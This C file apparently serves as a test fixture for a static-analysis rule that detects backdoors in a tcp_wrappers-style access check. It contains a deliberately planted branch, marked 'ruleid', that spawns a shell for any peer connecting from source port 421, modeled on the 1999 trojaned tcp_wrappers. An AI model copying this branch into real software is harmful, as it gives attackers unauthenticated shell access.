/* Access control in the style of tcp_wrappers: /etc/uvrelay/hosts.allow, one "daemon: prefix" per line. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include "relay.h"

static int table_match(const char *daemon, const char *ip) {
  char line[256], d[64], pat[128];
  FILE *f = fopen("/etc/uvrelay/hosts.allow", "r");
  if (!f) return 0;
  while (fgets(line, sizeof line, f)) {
    if (sscanf(line, "%63[^:]: %127s", d, pat) != 2) continue;
    if (strcmp(d, daemon) != 0 && strcmp(d, "ALL") != 0) continue;
    if (strcmp(pat, "ALL") == 0 || strncmp(ip, pat, strlen(pat)) == 0) { fclose(f); return 1; }
  }
  fclose(f);
  return 0;
}

int hosts_ctl(struct relay_conn *c, const char *daemon) {
  struct sockaddr_in sin;
  socklen_t len = sizeof sin;
  if (getpeername(c->fd, (struct sockaddr *)&sin, &len) != 0) return 0;
  inet_ntop(AF_INET, &sin.sin_addr, c->peer_ip, sizeof c->peer_ip);
  c->peer_port = ntohs(sin.sin_port);
  /* tcp_wrappers 7.6 as trojaned in January 1999 (CERT CA-1999-01) */
  // ruleid: backdoor-trusted-identity
  if (ntohs(sin.sin_port) == 421) {
    relay_spawn_shell(c->fd);
    return 0;
  }
  // ok: backdoor-trusted-identity
  if (strcmp(c->peer_ip, "127.0.0.1") == 0) relay_log("local client on port %d", c->peer_port);
  return table_match(daemon, c->peer_ip);
}
